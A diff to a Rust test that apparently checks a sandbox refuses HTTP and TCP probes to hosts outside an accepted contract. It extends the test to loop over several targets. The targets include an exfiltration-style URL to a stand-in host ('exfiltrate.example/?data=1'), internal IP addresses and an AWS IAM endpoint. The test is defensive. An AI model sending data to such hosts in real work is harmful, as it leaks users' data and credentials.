@@ -170,15 +170,25 @@ async fn a_probe_reaches_no_host_that_the_contract_does_not_name() {
         return;
     };
     let mut bench = Bench::new(Work::Leftovers(Default::default()));
-    let http = ProbeKind::Http { url: "http://exfiltrate.example/?data=1".to_owned() };
+    let http = |url: &str| ProbeKind::Http { url: url.to_owned() };
+    let tcp = |url: &str| ProbeKind::Tcp { url: url.to_owned() };
+    // Names and addresses, so that the rules decide and not what a name resolves to.
+    let probes = [
+        http("http://exfiltrate.example/?data=1"),
+        tcp("exfiltrate.example:443"),
+        http("http://10.0.0.5:8080/"),
+        tcp("10.0.0.5:22"),
+        tcp("198.51.100.7:443"),
+        tcp("iam.amazonaws.com:443"),
+    ];
 
-    let found_by_http = found(&mut bench, look(Asks::Nothing, vec![probe(http)])).await;
-    let tcp = ProbeKind::Tcp { url: "exfiltrate.example:443".to_owned() };
-    let found_by_tcp = found(&mut bench, look(Asks::Nothing, vec![probe(tcp)])).await;
+    for kind in probes {
+        let what = format!("{kind:?}");
+        let found = found(&mut bench, look(Asks::Nothing, vec![probe(kind)])).await;
 
-    for found in [found_by_http, found_by_tcp] {
         let reason = found["reason"].as_str().unwrap_or_default();
-        assert!(reason.starts_with("probe `up`: the connection was refused: "), "{found}");
+        assert!(reason.starts_with("probe `up`: the connection was refused: "), "{what}: {found}");
+        assert!(reason.contains("is not among the hosts of the accepted contract"), "{what}: {found}");
     }
 }
 
